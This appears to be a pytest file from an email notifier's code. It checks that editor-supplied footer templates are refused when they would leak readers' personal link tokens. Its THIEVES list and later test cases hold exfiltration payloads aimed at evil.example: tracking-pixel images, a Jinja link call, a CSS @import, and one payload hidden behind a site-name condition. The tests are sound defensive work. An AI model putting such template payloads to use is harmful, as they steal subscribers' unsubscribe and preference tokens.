"""Nobody's own links leave in the address of another: an editor's template may place them, and no more."""

from dataclasses import replace

import pytest

from notifier.domain.letter import OwnTemplate, PersonalMark
from notifier.domain.template_part import TemplatePart
from notifier.domain.words import LetterKind
from notifier.own_templates import ours
from notifier.settings import templates_dir
from notifier.stages.render.compile.check import TemplateRefused, check_own
from notifier.stages.render.compile.sample import sample
from notifier.stages.render.marks import are_astray
from notifier.stages.render.renderer import Renderer

FOOT = TemplatePart("footer")
PICTURE = '<img src="{}" width="1" height="1" alt="x" style="border:0">'
THIEVES = [
    PICTURE.format("https://evil.example/{{ mark.PREFERENCES }}"),
    PICTURE.format("{{ mark.PREFERENCES }}"),
    PICTURE.format("{{ ('https://evil.example/?' ~ mark.PREFERENCES)|href }}"),
    "{% call m.link('https://evil.example/?' ~ mark.UNSUBSCRIBE, 'soft', true) %}x{% endcall %}",
    PICTURE.format("https://evil.example/\ue004"),
    PICTURE.format("https://evil.example/{{ mark.TRACE }}"),
]


@pytest.mark.parametrize("thief", THIEVES)
def test_a_foot_that_would_carry_them_away_is_refused(thief: str) -> None:
    with pytest.raises(TemplateRefused) as found:
        check_own(templates_dir(), FOOT, ours(FOOT) + thief)
    assert "unsafe" in {fault.rule for fault in found.value.faults}


def test_one_that_waited_for_the_real_letter_makes_none() -> None:
    hidden = ours(FOOT) + "{% if site.name != 'HERE' %}{% else %}" + THIEVES[0] + "{% endif %}"
    check_own(templates_dir(), FOOT, hidden)
    content = sample(LetterKind.DIGEST, "ar")
    content = replace(content, site=replace(content.site, name="HERE"))
    renderer = Renderer(templates_dir())
    made = renderer.render(replace(content, own=(OwnTemplate(1, FOOT.file, hidden),)))
    assert made == renderer.render(content), "ours, for the letter is owed"
    assert "evil" not in made.html


@pytest.mark.parametrize("kind", list(LetterKind))
def test_our_own_letters_place_them_rightly(kind: LetterKind) -> None:
    assert not are_astray(Renderer(templates_dir()).render(sample(kind, "ar")).html)


@pytest.mark.parametrize(
    ("html", "astray"),
    [
        ('<a class="x" href="\ue001">x</a>', False),
        ('<a href="\ue000/mute/all">x</a>', False),
        ('<a href="\ue000.evil.example">x</a>', True),
        ('<a href="https://evil.example/?\ue001">x</a>', True),
        ('<a title="\ue001" href="\ue001">x</a>', True),
        ("<p>\ue001</p>", True),
        ("<img src='https://evil.example/? href=\"\ue001\"'>", True),
        ('<style>@import "https://evil.example/? href="\ue001"";</style>', True),
        ('<style>a{}</style><a href="\ue001">x</a>', False),
        ('<link rel="stylesheet" href="\ue001">', True),
        ('<!-- <a href="\ue001"> -->', True),
        (f"{PersonalMark.OPEN}x{PersonalMark.CLOSE}", False),
    ],
)
def test_a_mark_stands_first_in_a_link_or_astray(html: str, astray: bool) -> None:  # noqa: FBT001 - the expected answer
    assert are_astray(html) is astray
